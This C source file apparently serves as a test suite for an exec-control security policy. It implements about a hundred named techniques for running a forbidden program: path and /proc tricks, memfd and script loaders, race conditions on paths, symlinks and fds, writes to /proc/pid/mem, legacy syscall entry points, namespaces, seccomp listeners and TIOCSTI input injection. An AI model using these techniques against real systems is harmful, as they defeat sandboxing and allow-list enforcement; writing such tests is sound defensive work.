/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Ways to run a program that policy forbids, one a name: attack NAME PROGRAM [DECOY].
 * DECOY is a program that may run. What counts is the witness file, not the exit status.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <linux/userfaultfd.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <spawn.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define ROUNDS 150
#define STACK 65536

extern char **environ;
static const char *prog, *decoy;
static char *argv_prog[] = { "forbidden", NULL };
static char work[64];
static char *shared; /* a path that several rewrite */

static void
run(const char *path)
{
	execve(path, argv_prog, environ);
}

static void
copy(const char *to)
{
	char buf[65536];
	int in = open(prog, O_RDONLY), out = open(to, O_WRONLY | O_CREAT | O_TRUNC, 0755);
	ssize_t n;

	while (in >= 0 && out >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, (size_t)n) != n)
			break;
	close(in);
	close(out);
}

static const char *
at(const char *name)
{
	static char path[256];

	snprintf(path, sizeof(path), "%s/%s", work, name);
	return path;
}

static void
fill(int fd)
{
	char buf[65536];
	int in = open(prog, O_RDONLY);
	ssize_t n;

	while (in >= 0 && (n = read(in, buf, sizeof(buf))) > 0)
		if (write(fd, buf, (size_t)n) != n)
			break;
	close(in);
}

static const char *
fdpath(const char *dir, int fd)
{
	static char path[64];

	snprintf(path, sizeof(path), "%s/%d", dir, fd);
	return path;
}

/* --- plain ------------------------------------------------------------------------------------------------ */

static void a_execve(void) { run(prog); }
static void a_spawn(void) { pid_t p; posix_spawn(&p, prog, NULL, NULL, argv_prog, environ); waitpid(p, NULL, 0); }
static void a_relative(void) { if (chdir("/opt/exec") == 0) run("./forbidden"); }
static void a_dots(void) { run("/usr/bin/../../opt/./exec//forbidden"); }
static void a_execveat(void) { syscall(SYS_execveat, AT_FDCWD, prog, argv_prog, environ, 0); }
static void a_dirfd(void) { syscall(SYS_execveat, open("/opt/exec", O_PATH), "forbidden", argv_prog, environ, 0); }
static void a_empty(void) { syscall(SYS_execveat, open(prog, O_PATH), "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_empty_read(void) { syscall(SYS_execveat, open(prog, O_RDONLY), "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_nofollow(void) { syscall(SYS_execveat, AT_FDCWD, prog, argv_prog, environ, AT_SYMLINK_NOFOLLOW); }
static void a_null_argv(void) { syscall(SYS_execve, prog, NULL, environ); }
static void a_empty_argv(void) { char *none[] = { NULL }; syscall(SYS_execve, prog, none, environ); }
static void a_null_env(void) { syscall(SYS_execve, prog, argv_prog, NULL); }
static void a_high_bits(void) { syscall(SYS_execveat, 0xffffffff00000000UL | (uint32_t)AT_FDCWD, prog, argv_prog, environ, 0); }
static void a_proc_fd(void) { run(fdpath("/proc/self/fd", open(prog, O_PATH))); }
static void a_dev_fd(void) { run(fdpath("/dev/fd", open(prog, O_RDONLY))); }
static void a_thread_self(void) { run(fdpath("/proc/thread-self/fd", open(prog, O_RDONLY))); }
static void a_proc_root(void) { run("/proc/self/root/opt/exec/forbidden"); }
static void a_proc_cwd(void) { if (chdir("/opt/exec") == 0) run("/proc/self/cwd/forbidden"); }
static void a_proc_pid_root(void) { char p[64]; snprintf(p, sizeof(p), "/proc/%d/root/opt/exec/forbidden", getppid()); run(p); }
static void a_parent_fd(void) { char p[64]; int fd = open(prog, O_PATH); pid_t me = getpid(); if (fork() == 0) { snprintf(p, sizeof(p), "/proc/%d/fd/%d", me, fd); run(p); _exit(1); } wait(NULL); }

static void
a_page_end(void)
{
	size_t n = strlen(prog) + 1;
	char *m = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	munmap(m + 4096, 4096);
	memcpy(m + 4096 - n, prog, n);
	run(m + 4096 - n);
}

static void
a_long_path(void)
{
	char path[4096] = "";

	while (strlen(path) < 4000)
		strcat(path, "/usr/..");
	strcat(path, prog);
	run(path);
}

static void
a_too_many_words(void)
{
	char **v = calloc(20001, sizeof(*v));

	for (int i = 0; i < 20000; i++)
		v[i] = "x";
	execve(prog, v, environ);
}

static void
a_too_long_words(void)
{
	char *v[8] = { "x" };

	for (int i = 1; i < 7; i++) {
		v[i] = malloc(120001);
		memset(v[i], 'x', 120000);
		v[i][120000] = 0;
	}
	execve(prog, v, environ);
}

/* --- other files, same program -------------------------------------------------------------------------------- */

static void a_copy(void) { copy(at("ls")); run(at("ls")); }
static void a_copy_shm(void) { copy("/dev/shm/ls-attack"); run("/dev/shm/ls-attack"); unlink("/dev/shm/ls-attack"); }
static void a_copy_home(void) { char p[256]; snprintf(p, sizeof(p), "%s/true", getenv("HOME")); copy(p); run(p); }
static void a_hardlink(void) { if (link(prog, at("true")) == 0) run(at("true")); }
static void a_symlink(void) { if (symlink(prog, at("true")) == 0) run(at("true")); }
static void a_symlink_chain(void) { if (symlink(prog, at("a")) == 0 && symlink("a", at("b")) == 0) run(at("b")); }
static void a_dirlink(void) { if (symlink("/opt/exec", at("d")) == 0) run(at("d/forbidden")); }
static void a_rename(void) { copy(at("x")); char o[256]; strcpy(o, at("x")); if (rename(o, at("true")) == 0) run(at("true")); }
static void a_memfd(void) { int fd = memfd_create("true", 0); fill(fd); syscall(SYS_execveat, fd, "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_memfd_path(void) { int fd = memfd_create("/usr/bin/true", 0); fill(fd); run(fdpath("/proc/self/fd", fd)); }
static void a_memfd_exec(void) { int fd = memfd_create("x", 0x10U | MFD_ALLOW_SEALING); fill(fd); run(fdpath("/dev/fd", fd)); }
static void a_tmpfile(void) { int w = open(work, O_TMPFILE | O_RDWR, 0755); char p[64]; fill(w); snprintf(p, sizeof(p), "/proc/self/fd/%d", w); int r = open(p, O_RDONLY); close(w); run(fdpath("/proc/self/fd", r)); }
static void a_unlinked(void) { copy(at("y")); int fd = open(at("y"), O_RDONLY); unlink(at("y")); syscall(SYS_execveat, fd, "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_unlinked_path(void) { copy(at("y")); int fd = open(at("y"), O_RDONLY); unlink(at("y")); run(fdpath("/proc/self/fd", fd)); }
static void a_secret_mem(void) { int fd = (int)syscall(447, 0); if (fd >= 0) run(fdpath("/proc/self/fd", fd)); }

static void
script(const char *name, const char *text)
{
	int fd = open(at(name), O_WRONLY | O_CREAT | O_TRUNC, 0755);

	(void)!write(fd, text, strlen(text));
	close(fd);
}

static void a_script(void) { char t[256]; snprintf(t, sizeof(t), "#!%s\n", prog); script("s", t); run(at("s")); }
static void a_script_env(void) { char t[256]; snprintf(t, sizeof(t), "#!/usr/bin/env %s\n", prog); script("s", t); run(at("s")); }
static void a_script_sh(void) { char t[256]; snprintf(t, sizeof(t), "#!/bin/sh\nexec %s\n", prog); script("s", t); run(at("s")); }
static void a_script_blank(void) { char t[256]; snprintf(t, sizeof(t), "#! \t %s \t x\n", prog); script("s", t); run(at("s")); }
static void a_script_nested(void) { char t[300]; snprintf(t, sizeof(t), "#!%s\n", prog); script("s1", t); snprintf(t, sizeof(t), "#!%s\n", at("s1")); script("s2", t); run(at("s2")); }
static void a_script_long(void) { char t[400]; memset(t, ' ', sizeof(t)); memcpy(t, "#!", 2); strcpy(t + 240 - strlen(prog), prog); memset(t + 240, ' ', 100); t[340] = '\n'; t[341] = 0; script("s", t); run(at("s")); }
static void a_script_fd(void) { char t[256]; snprintf(t, sizeof(t), "#!/bin/sh\n%s\n", prog); script("s", t); syscall(SYS_execveat, open(at("s"), O_RDONLY), "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_script_memfd(void) { char t[256]; int fd = memfd_create("s", 0); snprintf(t, sizeof(t), "#!%s\n", prog); (void)!write(fd, t, strlen(t)); run(fdpath("/proc/self/fd", fd)); }
static void a_script_none(void) { char t[256]; snprintf(t, sizeof(t), "%s\n", prog); script("s", t); execlp(at("s"), "s", (char *)NULL); }

/* --- races --------------------------------------------------------------------------------------------------- */

static void *
flip(void *unused)
{
	size_t a = strlen(prog) + 1, b = strlen(decoy) + 1;

	(void)unused;
	for (;;) {
		memcpy(shared, prog, a);
		memcpy(shared, decoy, b);
	}
	return NULL;
}

/* The word of an allowed tool, between harmless and not. */
static void *
flip_word(void *unused)
{
	(void)unused;
	for (;;) {
		memcpy(shared, "forbid", 7);
		memcpy(shared, "harmle", 7);
	}
	return NULL;
}

static char *pointers[3];
static char harmless[] = "harmle", forbid[] = "forbid";

static void *
flip_pointer(void *unused)
{
	(void)unused;
	for (;;) {
		__atomic_store_n(&pointers[1], forbid, __ATOMIC_RELAXED);
		__atomic_store_n(&pointers[1], harmless, __ATOMIC_RELAXED);
	}
	return NULL;
}

static void
race(void *(*rewrite)(void *), void (*go)(void))
{
	pthread_t t;

	for (int i = 0; i < ROUNDS; i++) {
		if (fork() == 0) {
			alarm(1);
			pthread_create(&t, NULL, rewrite, NULL);
			usleep((useconds_t)(i % 7) * 100);
			go();
			_exit(1);
		}
		while (wait(NULL) > 0)
			;
	}
}

static void go_path(void) { run(shared); }
static void go_path_at(void) { syscall(SYS_execveat, AT_FDCWD, shared, argv_prog, environ, 0); }
static void go_word(void) { char *v[] = { "tool", shared, NULL }; execve(decoy, v, environ); }
static void go_pointer(void) { pointers[0] = "tool"; pointers[1] = harmless; execve(decoy, pointers, environ); }
static void a_race_path(void) { strcpy(shared, decoy); race(flip, go_path); }
static void a_race_path_at(void) { strcpy(shared, decoy); race(flip, go_path_at); }
static void a_race_word(void) { strcpy(shared, "harmle"); race(flip_word, go_word); }
static void a_race_pointer(void) { race(flip_pointer, go_pointer); }
static void *exec_thread(void *go) { ((void (*)(void))go)(); return NULL; }
static void go_thread(void) { pthread_t t; pthread_create(&t, NULL, exec_thread, (void *)go_path); pthread_join(t, NULL); }
static void a_race_thread(void) { strcpy(shared, decoy); race(flip, go_thread); }
static void go_two(void) { pthread_t t; for (int i = 0; i < 4; i++) pthread_create(&t, NULL, exec_thread, (void *)go_path); run(decoy); run(prog); }
static void a_race_two_threads(void) { strcpy(shared, decoy); race(flip, go_two); }
static void go_leader(void) { pthread_t t; pthread_create(&t, NULL, exec_thread, (void *)go_word); go_word(); }
static void a_race_leader(void) { strcpy(shared, "harmle"); race(flip_word, go_leader); }
static void a_thread(void) { pthread_t t; pthread_create(&t, NULL, exec_thread, (void *)a_execve); pthread_join(t, NULL); }

/* From another process that shares the page. */
static void
race_shared(void *(*rewrite)(void *), void (*go)(void))
{
	pid_t p = fork();

	if (p == 0)
		rewrite(NULL);
	for (int i = 0; i < ROUNDS; i++) {
		if (fork() == 0) {
			go();
			_exit(1);
		}
		waitpid(-1, NULL, 0);
	}
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

static void a_race_shared(void) { strcpy(shared, decoy); race_shared(flip, go_path); }
static void a_race_shared_word(void) { strcpy(shared, "harmle"); race_shared(flip_word, go_word); }

static int vm_child(void *unused) { (void)unused; run(shared); _exit(1); }
static int vm_flip(void *unused) { flip(unused); return 0; }

/* A process that shares all memory, and goes on while the other execs. */
static void
a_race_vm(void)
{
	strcpy(shared, decoy);
	for (int i = 0; i < ROUNDS; i++) {
		char *s1 = malloc(STACK), *s2 = malloc(STACK);
		pid_t f = clone(vm_flip, s1 + STACK, CLONE_VM | SIGCHLD, NULL), e;

		e = clone(vm_child, s2 + STACK, CLONE_VM | SIGCHLD, NULL);
		waitpid(e, NULL, 0);
		kill(f, SIGKILL);
		waitpid(f, NULL, 0);
		free(s1);
		free(s2);
	}
}

static void a_vfork(void) { if (vfork() == 0) { run(prog); _exit(1); } wait(NULL); }
static int plain_child(void *unused) { (void)unused; run(prog); _exit(1); }
static void a_clone_vm(void) { clone(plain_child, malloc(STACK) + STACK, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL); wait(NULL); }
static void a_clone_files(void) { clone(plain_child, malloc(STACK) + STACK, CLONE_FILES | SIGCHLD, NULL); wait(NULL); }
static void a_clone_parent(void) { clone(plain_child, malloc(STACK) + STACK, CLONE_PARENT | SIGCHLD, NULL); sleep(1); }
static void a_clone_untraced(void) { clone(plain_child, malloc(STACK) + STACK, CLONE_UNTRACED | SIGCHLD, NULL); wait(NULL); }
static void a_clone3(void) { struct clone_args c = { .exit_signal = SIGCHLD }; if (syscall(SYS_clone3, &c, sizeof(c)) == 0) { run(prog); _exit(1); } wait(NULL); }
static void a_clone3_user(void) { struct clone_args c = { .flags = CLONE_NEWUSER | CLONE_NEWNS, .exit_signal = SIGCHLD }; if (syscall(SYS_clone3, &c, sizeof(c)) == 0) { run(prog); _exit(1); } wait(NULL); }

/* A symbolic link that points now here, now there. */
static void
a_race_symlink(void)
{
	char l[256], m[256], n[256];
	pid_t p;

	strcpy(l, at("l"));
	strcpy(m, at("m"));
	strcpy(n, at("n"));
	(void)!symlink(decoy, l);
	p = fork();
	for (int i = 0; p == 0; i++) {
		unlink(n);
		(void)!symlink((i & 1) != 0 ? prog : decoy, n);
		rename(n, l);
	}
	for (int i = 0; i < 2 * ROUNDS; i++) {
		if (fork() == 0) {
			run(l);
			_exit(1);
		}
		waitpid(-1, NULL, 0);
	}
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

static void
a_race_directory(void)
{
	char d[256], e[256], x[256];
	pid_t p;

	strcpy(d, at("dir"));
	strcpy(e, at("other"));
	(void)!symlink("/opt/exec", d);
	(void)!symlink("/usr/bin", e);
	snprintf(x, sizeof(x), "%s/forbidden", d);
	p = fork();
	while (p == 0)
		renameat2(AT_FDCWD, d, AT_FDCWD, e, RENAME_EXCHANGE);
	for (int i = 0; i < ROUNDS; i++) {
		if (fork() == 0) {
			run(x);
			_exit(1);
		}
		waitpid(-1, NULL, 0);
	}
	kill(p, SIGKILL);
	waitpid(p, NULL, 0);
}

static int race_fd;
static void *flip_fd(void *unused) { int a = open(prog, O_PATH), b = open(decoy, O_PATH); (void)unused; for (;;) { dup2(a, race_fd); dup2(b, race_fd); } return NULL; }
static void go_fd(void) { syscall(SYS_execveat, race_fd, "", argv_prog, environ, AT_EMPTY_PATH); }
static void a_race_fd(void) { race_fd = open(decoy, O_PATH); race(flip_fd, go_fd); }
static void go_fd_path(void) { run(fdpath("/proc/self/fd", race_fd)); }
static void a_race_fd_path(void) { race_fd = open(decoy, O_PATH); race(flip_fd, go_fd_path); }
static void *flip_cwd(void *unused) { (void)unused; for (;;) { (void)!chdir("/opt/exec"); (void)!chdir(work); } return NULL; }
static void go_cwd(void) { run("./forbidden"); }
static void a_race_cwd(void) { char t[256]; strcpy(t, at("forbidden")); (void)!symlink(decoy, t); race(flip_cwd, go_cwd); }
static int fs_child(void *unused) { (void)unused; for (;;) { (void)!chdir("/opt/exec"); (void)!chdir("/usr/bin"); } }

static void
a_clone_fs(void)
{
	pid_t p = clone(fs_child, malloc(STACK) + STACK, CLONE_FS | SIGCHLD, NULL);

	for (int i = 0; i < ROUNDS; i++) {
		if (fork() == 0) {
			run("./forbidden");
			_exit(1);
		}
		waitpid(-1, NULL, WNOHANG);
	}
	if (p > 0)
		kill(p, SIGKILL);
}

/* Writes into the memory of one that waits. */
static void
a_race_proc_mem(void)
{
	char mem[64];

	for (int i = 0; i < ROUNDS; i++) {
		pid_t p;
		int fd;

		strcpy(shared, decoy);
		p = fork();
		if (p == 0) {
			char *own = strdup(decoy);

			*(char **)(void *)(shared + 512) = own;
			for (;;) {
				run(own);
				strcpy(own, decoy);
			}
		}
		snprintf(mem, sizeof(mem), "/proc/%d/mem", p);
		fd = open(mem, O_RDWR);
		for (int k = 0; k < 200 && fd >= 0; k++) {
			off_t where = (off_t)(uintptr_t) * (char **)(void *)(shared + 512);

			if (where != 0)
				(void)!pwrite(fd, k % 2 != 0 ? decoy : prog, strlen(k % 2 != 0 ? decoy : prog) + 1, where);
		}
		close(fd);
		kill(p, SIGKILL);
		waitpid(p, NULL, 0);
	}
}

/* A handler changes the path whenever the wait is interrupted. */
static void on_alarm(int sig) { (void)sig; strcpy(shared, strcmp(shared, prog) == 0 ? decoy : prog); }

static void
a_race_signal(void)
{
	struct sigaction sa = { .sa_handler = on_alarm, .sa_flags = SA_RESTART };
	struct itimerval it = { { 0, 200 }, { 0, 200 } };

	for (int i = 0; i < ROUNDS; i++) {
		strcpy(shared, decoy);
		if (fork() == 0) {
			sigaction(SIGALRM, &sa, NULL);
			setitimer(ITIMER_REAL, &it, NULL);
			for (int k = 0; k < 20; k++)
				run(shared);
			_exit(1);
		}
		wait(NULL);
	}
}

static void *stopper(void *p) { pid_t pid = (pid_t)(intptr_t)p; for (int i = 0; i < 100; i++) { kill(pid, SIGSTOP); kill(pid, SIGCONT); } return NULL; }

static void
a_race_stop(void)
{
	strcpy(shared, decoy);
	for (int i = 0; i < 50; i++) {
		pthread_t t, u;
		pid_t p = fork();

		if (p == 0) {
			pthread_create(&t, NULL, flip, NULL);
			for (int k = 0; k < 5; k++)
				run(shared);
			_exit(1);
		}
		pthread_create(&u, NULL, stopper, (void *)(intptr_t)p);
		pthread_join(u, NULL);
		kill(p, SIGCONT);
		waitpid(p, NULL, 0);
	}
}

/* A page that takes its time to be read. */
static void
a_userfaultfd(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK | UFFD_USER_MODE_ONLY);

	if (fd >= 0 && ioctl(fd, UFFDIO_API, &api) == 0)
		run(shared);
	strcpy(shared, prog);
	run(shared);
}

/* --- other doors to the kernel -------------------------------------------------------------------------------- */

static void
a_int80(void)
{
#if defined(__x86_64__)
	char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	uint32_t *v = (void *)(low + 512);
	long r;

	strcpy(low, prog);
	v[0] = (uint32_t)(uintptr_t)low;
	v[1] = 0;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(11L), "b"((long)(uintptr_t)low), "c"((long)(uintptr_t)v), "d"(0L) : "memory");
#endif
}

static void
a_int80_at(void)
{
#if defined(__x86_64__)
	char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	uint32_t *v = (void *)(low + 512);
	long r;

	strcpy(low, prog);
	v[0] = (uint32_t)(uintptr_t)low;
	v[1] = 0;
	__asm__ volatile("mov $0, %%edi; int $0x80" : "=a"(r) : "a"(358L), "b"(-100L), "c"((long)(uintptr_t)low), "d"((long)(uintptr_t)v), "S"(0L) : "memory", "edi");
#endif
}

static void a_x32(void) { syscall(0x40000000 + 520, prog, argv_prog, environ); }
static void a_x32_at(void) { syscall(0x40000000 + 545, AT_FDCWD, prog, argv_prog, environ, 0); }
static void a_x32_old(void) { syscall(0x40000000 + 59, prog, argv_prog, environ); }
static void a_io_uring(void) { struct io_uring_params p = { 0 }; if (syscall(SYS_io_uring_setup, 8, &p) >= 0) run(prog); }
static void a_uselib(void) { syscall(134, prog); }
static void a_personality(void) { syscall(SYS_personality, 0x0008000 | 0x0040000); run(prog); }

static void
a_ptrace(void)
{
	pid_t p = fork();

	if (p == 0) {
		for (;;)
			run(decoy);
	}
	if (ptrace(PTRACE_SEIZE, p, NULL, NULL) == 0 || ptrace(PTRACE_ATTACH, p, NULL, NULL) == 0)
		run(prog);
	kill(p, SIGKILL);
	wait(NULL);
}

static void a_traceme(void) { if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) == 0) run(prog); run(prog); }
static void a_vm_write(void) { char c = 0; struct iovec v = { &c, 1 }; if (process_vm_writev(getppid(), &v, 1, &v, 1, 0) >= 0) run(prog); }
static void a_pidfd_getfd(void) { int p = (int)syscall(SYS_pidfd_open, getppid(), 0); if (syscall(SYS_pidfd_getfd, p, 0, 0) >= 0) run(prog); }
static void a_userns(void) { if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0) { (void)!mount(prog, decoy, NULL, MS_BIND, NULL); run(decoy); } }
static void a_userns_clone(void) { if (syscall(SYS_clone, CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, 0, 0, 0, 0) == 0) { (void)!mount(prog, decoy, NULL, MS_BIND, NULL); run(decoy); _exit(1); } wait(NULL); }
static void a_setns(void) { char p[64]; snprintf(p, sizeof(p), "/proc/%d/ns/user", getppid()); if (setns(open(p, O_RDONLY), 0) == 0) run(prog); }
static void a_setns_user(void) { if (setns(open("/proc/1/ns/mnt", O_RDONLY), CLONE_NEWNS) == 0) run(prog); }
static void a_mount(void) { if (mount(prog, decoy, NULL, MS_BIND, NULL) == 0) run(decoy); }
static void a_chroot(void) { if (chroot("/opt") == 0) run("/exec/forbidden"); }
static void a_nnp(void) { prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0); run(prog); }
static void a_dumpable(void) { prctl(PR_SET_DUMPABLE, 0, 0, 0, 0); run(prog); }

static int
filter(unsigned flags, uint32_t action)
{
	struct sock_filter f[] = { BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_execve, 0, 1), BPF_STMT(BPF_RET | BPF_K, action),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW) };
	struct sock_fprog p = { 4, f };

	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &p);
}

static void a_filter_allow(void) { filter(0, SECCOMP_RET_ALLOW); run(prog); }
static void a_filter_trace(void) { filter(0, SECCOMP_RET_TRACE); run(prog); }
static void a_filter_log(void) { filter(0, SECCOMP_RET_LOG); run(prog); }

/* A listener of one's own, which lets everything go on. */
static void
a_filter_listener(void)
{
	int fd = filter(SECCOMP_FILTER_FLAG_NEW_LISTENER, SECCOMP_RET_USER_NOTIF);
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	if (fd >= 0 && fork() > 0) {
		memset(&req, 0, sizeof(req));
		memset(&resp, 0, sizeof(resp));
		ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, &req);
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
		wait(NULL);
		return;
	}
	run(prog);
}

static void a_tsync(void) { filter(SECCOMP_FILTER_FLAG_TSYNC, SECCOMP_RET_ALLOW); run(prog); }
static void a_tiocsti(void) { char c[] = "/opt/exec/forbidden\n"; for (char *p = c; *p != 0; p++) ioctl(0, TIOCSTI, p); sleep(1); }
static void a_tiocsti_high(void) { char c[] = "/opt/exec/forbidden\n"; for (char *p = c; *p != 0; p++) syscall(SYS_ioctl, 0, 0xff00000000000000UL | TIOCSTI, p); sleep(1); }

/* --- time and number ---------------------------------------------------------------------------------------------- */

static void
a_storm(void)
{
	for (int i = 0; i < 8; i++)
		if (fork() == 0) {
			for (int k = 0; k < 100; k++)
				if (vfork() == 0) {
					run(k % 10 == 9 ? prog : decoy);
					_exit(1);
				} else {
					wait(NULL);
				}
			_exit(0);
		}
	while (wait(NULL) > 0)
		;
}

static void
a_storm_parallel(void)
{
	for (int i = 0; i < 300; i++)
		if (fork() == 0) {
			run(i % 2 != 0 ? prog : decoy);
			_exit(1);
		}
	while (wait(NULL) > 0)
		;
}

/* Dies while it is asked about, its number soon somebody else's. */
static void
a_die(void)
{
	for (int i = 0; i < 300; i++) {
		pid_t p = fork();

		if (p == 0) {
			run(i % 2 != 0 ? prog : decoy);
			_exit(1);
		}
		usleep((useconds_t)(i % 10) * 50);
		kill(p, SIGKILL);
		waitpid(p, NULL, 0);
	}
}

static void a_orphan(void) { if (fork() == 0) { setsid(); if (fork() == 0) { usleep(100000); run(prog); } _exit(0); } sleep(1); }
static void a_limits(void) { struct rlimit r = { 8, 8 }; setrlimit(RLIMIT_NOFILE, &r); run(prog); }
static void a_failed_then(void) { execve("/usr/bin/nothing-here", argv_prog, environ); execve("/etc/passwd", argv_prog, environ); run(decoy[0] == '/' ? "/opt/exec" : ""); run(prog); }

/* An exec that may go on and fails in the kernel; then another that may not. */
static void
a_failed_allowed(void)
{
	struct rlimit r = { 4096, 4096 };

	strcpy(shared, decoy);
	if (fork() == 0) {
		setrlimit(RLIMIT_STACK, &r);
		run(decoy);
		run(prog);
		_exit(1);
	}
	wait(NULL);
	run(prog);
}

#define A(name) { #name, a_##name }
static const struct {
	const char *name;
	void (*go)(void);
} attacks[] = { A(execve), A(spawn), A(relative), A(dots), A(execveat), A(dirfd), A(empty), A(empty_read), A(nofollow),
	A(null_argv), A(empty_argv), A(null_env), A(high_bits), A(proc_fd), A(dev_fd), A(thread_self), A(proc_root),
	A(proc_cwd), A(proc_pid_root), A(parent_fd), A(page_end), A(long_path), A(too_many_words), A(too_long_words),
	A(copy), A(copy_shm), A(copy_home), A(hardlink), A(symlink), A(symlink_chain), A(dirlink), A(rename), A(memfd),
	A(memfd_path), A(memfd_exec), A(tmpfile), A(unlinked), A(unlinked_path), A(secret_mem), A(script), A(script_env),
	A(script_sh), A(script_blank), A(script_nested), A(script_long), A(script_fd), A(script_memfd), A(script_none),
	A(race_path), A(race_path_at), A(race_word), A(race_pointer), A(race_thread), A(race_two_threads), A(race_leader),
	A(thread), A(race_shared), A(race_shared_word), A(race_vm), A(vfork), A(clone_vm), A(clone_files), A(clone_parent),
	A(clone_untraced), A(clone3), A(clone3_user), A(race_symlink), A(race_directory), A(race_fd), A(race_fd_path),
	A(race_cwd), A(clone_fs), A(race_proc_mem), A(race_signal), A(race_stop), A(userfaultfd), A(int80), A(int80_at),
	A(x32), A(x32_at), A(x32_old), A(io_uring), A(uselib), A(personality), A(ptrace), A(traceme), A(vm_write),
	A(pidfd_getfd), A(userns), A(userns_clone), A(setns), A(setns_user), A(mount), A(chroot), A(nnp), A(dumpable),
	A(filter_allow), A(filter_trace), A(filter_log), A(filter_listener), A(tsync), A(tiocsti), A(tiocsti_high), A(storm),
	A(storm_parallel), A(die), A(orphan), A(limits), A(failed_then), A(failed_allowed) };

int
main(int argc, char **argv)
{
	size_t i, n = sizeof(attacks) / sizeof(attacks[0]);

	if (argc < 2) {
		for (i = 0; i < n; i++)
			puts(attacks[i].name);
		return 0;
	}
	prog = argc > 2 ? argv[2] : "/opt/exec/forbidden";
	decoy = argc > 3 ? argv[3] : strstr(argv[1], "word") != NULL || strstr(argv[1], "pointer") != NULL ||
		    strstr(argv[1], "leader") != NULL ? "/opt/exec/tool" : "/usr/bin/true";
	snprintf(work, sizeof(work), "/tmp/attack.%d", getpid());
	mkdir(work, 0700);
	shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	for (i = 0; i < n; i++)
		if (strcmp(attacks[i].name, argv[1]) == 0) {
			attacks[i].go();
			return 0;
		}
	fprintf(stderr, "attack: no attack is called %s\n", argv[1]);
	return 2;
}
